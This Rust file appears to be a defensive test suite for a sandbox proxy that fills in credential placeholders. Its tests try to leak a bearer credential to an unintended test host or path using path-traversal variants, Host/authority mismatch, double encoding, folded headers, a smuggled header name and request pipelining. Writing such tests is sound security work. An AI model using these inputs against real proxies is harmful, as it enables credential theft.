//! Getting to see a credential that one may only use; see `world` for where it may go.
//!
//! Where there is no wall, a proxy stands there that fills placeholders in wherever it finds them.

use std::io::{Read, Write};
use std::net::Ipv4Addr;
use std::time::Duration;

use super::proxy;
use crate::attempt::Setting::Network;
use crate::attempt::{Attempt, Stop, Verdict, attempt};
use crate::call::{Step, blocked};
use crate::world::{CREDENTIAL, ECHO, VAULT, VAULT_PORT};

pub(super) const ATTEMPTS: &[Attempt] = &[
    attempt!(credential_host, "send a credential to another host").with(Network),
    attempt!(credential_path, "send a credential to another path").with(Network),
    attempt!(
        credential_dots,
        "send a credential to another path, spelt in 8 ways as one below its own"
    )
    .with(Network),
    attempt!(
        credential_authority,
        "send a credential to a host that Host and the target disagree on"
    )
    .with(Network),
    attempt!(
        credential_encoded,
        "send a credential to another host, encoded twice in the path and in the query"
    )
    .with(Network),
    attempt!(
        credential_folded,
        "send a credential to another host in a folded header"
    )
    .with(Network),
    attempt!(
        credential_name,
        "send a credential to another host in a header's name"
    )
    .with(Network),
    attempt!(
        credential_pipelined,
        "send a credential to another host behind a request that may have it"
    )
    .with(Network),
];

/// So that the end of an answer is soon known.
const CLOSE: &str = "Connection: close\r\n";

/// What stands for it.
const PLACEHOLDER: &str = "casemate:credential:VAULTED";

/// Says something to the proxy, and reads until it closes or says nothing for a second.
fn ask(said: &str) -> Verdict {
    let mut stream = proxy()?;
    let patience = Some(Duration::from_secs(1));
    stream.set_read_timeout(patience).prepare("SO_RCVTIMEO")?;
    stream.write_all(said.as_bytes()).attack("write")?;
    let (mut heard, mut bytes) = (Vec::new(), [0; 4096]);
    while let Ok(count @ 1..) = stream.read(&mut bytes) {
        heard.extend_from_slice(&bytes[..count]);
    }
    let heard = String::from_utf8_lossy(&heard);
    match heard.contains(CREDENTIAL) {
        true => Ok("a server that must not have it had the credential".to_owned()),
        false => blocked(heard.lines().next().unwrap_or("no answer").to_owned()),
    }
}

fn get(host: Ipv4Addr, path: &str, header: &str) -> String {
    let to = format!("{host}:{VAULT_PORT}");
    format!("GET http://{to}{path} HTTP/1.1\r\nHost: {to}\r\n{CLOSE}{header}\r\n\r\n")
}

fn bearer() -> String {
    format!("Authorization: Bearer {PLACEHOLDER}")
}

fn credential_host() -> Verdict {
    ask(&get(ECHO, "/home/x", &bearer()))
}

fn credential_path() -> Verdict {
    ask(&get(VAULT, "/away", &bearer()))
}

/// RFC 3986, section 5.2.4, and what servers make of it.
fn credential_dots() -> Verdict {
    let paths = [
        "/home/../away",
        "/home/%2e%2e/away",
        "/home/.%2E/away",
        "/home/..;x/away",
        "/home/./../away",
        "/home//../../away",
        "/home%2f..%2faway",
        "/home/..\\away",
    ];
    let mut last = String::new();
    for path in paths {
        match ask(&get(VAULT, path, &bearer())) {
            Err(Stop::Blocked(why)) => last = why,
            verdict => return verdict,
        }
    }
    blocked(format!("all {}, the last one {last}", paths.len()))
}

/// RFC 9112, section 3.2.2.
fn credential_authority() -> Verdict {
    let (vault, echo) = (
        format!("{VAULT}:{VAULT_PORT}"),
        format!("{ECHO}:{VAULT_PORT}"),
    );
    let header = bearer();
    ask(&format!(
        "GET http://{vault}/home/x HTTP/1.1\r\nHost: {echo}\r\n{CLOSE}{header}\r\n\r\n"
    ))
}

fn credential_encoded() -> Verdict {
    let once = PLACEHOLDER.replace(':', "%3A");
    let twice = once.replace('%', "%25");
    let mut last = String::new();
    for path in [
        format!("/{once}"),
        format!("/{twice}"),
        format!("/?k={twice}"),
    ] {
        match ask(&get(ECHO, &path, "X: y")) {
            Err(Stop::Blocked(why)) => last = why,
            verdict => return verdict,
        }
    }
    blocked(last)
}

/// RFC 9112, section 5.2.
fn credential_folded() -> Verdict {
    let (one, other) = PLACEHOLDER.split_at(12);
    ask(&get(ECHO, "/", &format!("X: {one}\r\n {other}")))
}

fn credential_name() -> Verdict {
    ask(&get(ECHO, "/", "X-OPENSHELL-RESOLVE-ENV-VAULTED: y"))
}

fn credential_pipelined() -> Verdict {
    let first = get(VAULT, "/home/x", &bearer()).replace(CLOSE, "");
    ask(&(first + &get(ECHO, "/", &bearer())))
}
